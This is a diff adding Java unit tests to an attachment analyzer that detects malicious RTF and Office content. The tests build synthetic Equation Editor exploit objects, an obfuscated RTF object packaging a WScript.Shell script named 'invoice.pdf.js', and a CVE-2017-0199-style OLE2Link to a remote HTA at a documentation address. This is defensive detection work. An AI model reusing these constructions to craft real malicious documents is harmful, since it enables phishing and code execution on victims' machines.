@@ -370,6 +370,133 @@ class AttachmentContentAnalyzerTest {
         assertThat(findings).noneMatch(f -> f.code().equals("ATTACHMENT_EXECUTABLE_CONTENT"));
     }
 
+    // ---- RTF objects and the Equation Editor -----------------------------------------------------------------
+
+    private static String hex(byte[] bytes) {
+        StringBuilder b = new StringBuilder();
+        for (byte x : bytes) {
+            b.append(String.format("%02x", x & 0xff));
+        }
+        return b.toString();
+    }
+
+    private static byte[] le32(int n) {
+        return new byte[] {(byte) n, (byte) (n >>> 8), (byte) (n >>> 16), (byte) (n >>> 24)};
+    }
+
+    /** An OLE 1.0 embedded object ([MS-OLEDS] 2.2.5) of {@code className} with {@code nativeData}. */
+    private static byte[] ole1(String className, byte[] nativeData) throws IOException {
+        ByteArrayOutputStream b = new ByteArrayOutputStream();
+        b.write(le32(0x0501));
+        b.write(le32(2));
+        byte[] cls = ascii(className + "\0");
+        b.write(le32(cls.length));
+        b.write(cls);
+        b.write(le32(0)); // topic
+        b.write(le32(0)); // item
+        b.write(le32(nativeData.length));
+        b.write(nativeData);
+        return b.toByteArray();
+    }
+
+    /** An OLE Package's native data as an RTF object holds it: the Ole10Native stream without its size. */
+    private static byte[] packageNative(String fileName, byte[] data) throws IOException {
+        org.apache.poi.poifs.filesystem.Ole10Native pkg =
+                new org.apache.poi.poifs.filesystem.Ole10Native(fileName, fileName, "C:\\Temp\\" + fileName, data);
+        ByteArrayOutputStream stream = new ByteArrayOutputStream();
+        pkg.writeOut(stream);
+        byte[] all = stream.toByteArray();
+        return java.util.Arrays.copyOfRange(all, 4, all.length);
+    }
+
+    /** An RTF document with one object whose data is {@code objdata} (already written as RTF). */
+    private static byte[] rtfWithObject(String objclass, String objdata) {
+        return ascii("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\pard 添付の通りです。\\par "
+                + "{\\object\\objemb\\objupdate" + (objclass == null ? "" : "{\\*\\objclass " + objclass + "}")
+                + "\\objw100\\objh100{\\*\\objdata " + objdata + "}{\\result{\\pict\\wmetafile8 0100}}}\\par}");
+    }
+
+    /** Hex data as exploit documents write it: broken by spaces, line breaks, control words and a group. */
+    private static String obfuscated(String hex) {
+        int third = hex.length() / 3;
+        return hex.substring(0, third) + " \r\n\\fnil\r\n" + hex.substring(third, 2 * third)
+                + "{\\proptype\\staticval abc}\r\n" + hex.substring(2 * third);
+    }
+
+    @Test
+    void oletoolsObfuscatedEquationEditorExploitIsFound() throws Exception {
+        // rtfobj's issue 251: an Equation.3 object behind control words, groups and line breaks in its data, with
+        // \objupdate so that Word starts the object when the document opens
+        assertThat(analyze(file("issue_251.rtf", sample("oletools/issue_251.rtf")))).containsExactly(
+                Finding.of("OFFICE_EQUATION_EDITOR", "issue_251.rtf: equation.3 object"));
+    }
+
+    @Test
+    void anEquationEditorObjectInAWordDocumentOrBehindAnotherClassNameInRtfIsFound() throws Exception {
+        byte[] doc;
+        try (org.apache.poi.poifs.filesystem.POIFSFileSystem fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem()) {
+            fs.getRoot().createDocument("WordDocument", new ByteArrayInputStream(new byte[512]));
+            org.apache.poi.poifs.filesystem.DirectoryEntry object =
+                    fs.getRoot().createDirectory("ObjectPool").createDirectory("_1234567890");
+            object.setStorageClsid(OleInspection.EQUATION_EDITOR);
+            object.createDocument("Equation Native", new ByteArrayInputStream(new byte[64]));
+            ByteArrayOutputStream out = new ByteArrayOutputStream();
+            fs.writeFilesystem(out);
+            doc = out.toByteArray();
+        }
+        // an RTF object whose class says Word but whose data is the Equation Editor's compound file
+        byte[] rtf = rtfWithObject("Word.Document.8", obfuscated(hex(ole1("Word.Document.8", doc))));
+        assertThat(analyze(file("見積書.doc", doc), file("order.rtf", rtf))).containsExactly(
+                Finding.of("OFFICE_EQUATION_EDITOR", "見積書.doc"),
+                Finding.of("OFFICE_EQUATION_EDITOR", "order.rtf!/embedded object"));
+        // the class the RTF declares is enough when the data cannot be read
+        assertThat(analyze(file("a.rtf", rtfWithObject("Equation.3", "0105000002000000")))).containsExactly(
+                Finding.of("OFFICE_EQUATION_EDITOR", "a.rtf: Equation.3 object"));
+    }
+
+    @Test
+    void aScriptPackagedInAnRtfObjectIsInspectedLikeAnyEmbeddedFile() throws Exception {
+        byte[] script = ascii("var s = WScript.CreateObject(\"WScript.Shell\"); s.Run(\"calc\");");
+        byte[] rtf = rtfWithObject("Package", obfuscated(hex(ole1("Package", packageNative("invoice.pdf.js", script)))));
+        assertThat(analyze(file("請求書.rtf", rtf))).containsExactly(
+                Finding.of("ATTACHMENT_EXECUTABLE", "請求書.rtf!/invoice.pdf.js"),
+                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "請求書.rtf!/invoice.pdf.js"),
+                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.rtf!/invoice.pdf.js: Windows script (wscript.shell)"));
+    }
+
+    @Test
+    void rtfObjectsLinkedToTheNetworkAreRemoteContent() throws Exception {
+        // CVE-2017-0199: an OLE2Link object whose moniker names an HTA on a web server (UTF-16LE in its native data)
+        ByteArrayOutputStream moniker = new ByteArrayOutputStream();
+        moniker.write(new byte[] {(byte) 0xE0, (byte) 0xC9, (byte) 0xEA, 0x79, (byte) 0xF9, (byte) 0xBA});
+        moniker.write("http://203.0.113.9/doc.hta\0".getBytes(StandardCharsets.UTF_16LE));
+        byte[] link = rtfWithObject(null, hex(ole1("OLE2Link", moniker.toByteArray())));
+        // a linked object ([MS-OLEDS] 2.2.6: format 1, the file in its topic) on another host's share
+        ByteArrayOutputStream linked = new ByteArrayOutputStream();
+        linked.write(le32(0x0501));
+        linked.write(le32(1));
+        byte[] cls = ascii("Word.Document.12\0");
+        linked.write(le32(cls.length));
+        linked.write(cls);
+        byte[] topic = ascii("\\\\203.0.113.9\\share\\order.docx\0");
+        linked.write(le32(topic.length));
+        linked.write(topic);
+        linked.write(le32(0));
+        byte[] share = rtfWithObject("Word.Document.12", hex(linked.toByteArray()));
+        assertThat(analyze(file("a.rtf", link), file("b.rtf", share))).containsExactly(
+                Finding.of("OFFICE_REMOTE_CONTENT", "a.rtf: linked object http://203.0.113.9/doc.hta"),
+                Finding.of("OFFICE_REMOTE_CONTENT", "b.rtf: linked object \\\\203.0.113.9\\share\\order.docx"));
+    }
+
+    @Test
+    void ordinaryRtfObjectsAreNothing() throws Exception {
+        // a Word document without macros, a MathType equation (its own class), an object without data
+        byte[] word = rtfWithObject("Word.Document.8", hex(ole1("Word.Document.8", sample("oletools/harmless-clean.doc"))));
+        byte[] mathType = rtfWithObject("Equation.DSMT4", hex(ole1("Equation.DSMT4", new byte[32])));
+        byte[] empty = rtfWithObject("Paint.Picture", "");
+        assertThat(analyze(file("a.rtf", word), file("b.rtf", mathType), file("c.rtf", empty))).isEmpty();
+    }
+
     /** A Word document as Word writes one, with {@code word/_rels/settings.xml.rels} holding {@code relationships}. */
     private static byte[] docx(String relationships) throws IOException {
         return zip("[Content_Types].xml", ascii("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
@@ -414,7 +541,8 @@ class AttachmentContentAnalyzerTest {
                         Finding.of("OFFICE_REMOTE_CONTENT", "注文書.rtf: template http://203.0.113.9/務書.dotm"),
                         Finding.of("OFFICE_REMOTE_CONTENT", "sample.zip!/in/order.rtf: template http://203.0.113.9/務書.dotm"));
         // the real RTF document of oletools' test data has no template
-        assertThat(analyze(file("issue_251.rtf", sample("oletools/issue_251.rtf")))).isEmpty();
+        assertThat(analyze(file("issue_251.rtf", sample("oletools/issue_251.rtf"))))
+                .noneMatch(f -> f.code().equals("OFFICE_REMOTE_CONTENT"));
     }
 
     @Test
@@ -526,8 +654,11 @@ class AttachmentContentAnalyzerTest {
     void rtfUnderAWordExtensionIsDisguisedButUnderItsOwnNameIsNot() throws Exception {
         byte[] rtf = sample("oletools/issue_251.rtf");
 
+        // (oletools' sample is an Equation Editor exploit as well, whatever its name)
         assertThat(analyze(file("見積書.doc", rtf), file("memo.rtf", rtf)))
-                .containsExactly(Finding.of("RTF_DISGUISED", "見積書.doc"));
+                .containsExactly(Finding.of("RTF_DISGUISED", "見積書.doc"),
+                        Finding.of("OFFICE_EQUATION_EDITOR", "見積書.doc: equation.3 object"),
+                        Finding.of("OFFICE_EQUATION_EDITOR", "memo.rtf: equation.3 object"));
     }
 
     // ---- encryption -----------------------------------------------------------------------------------------
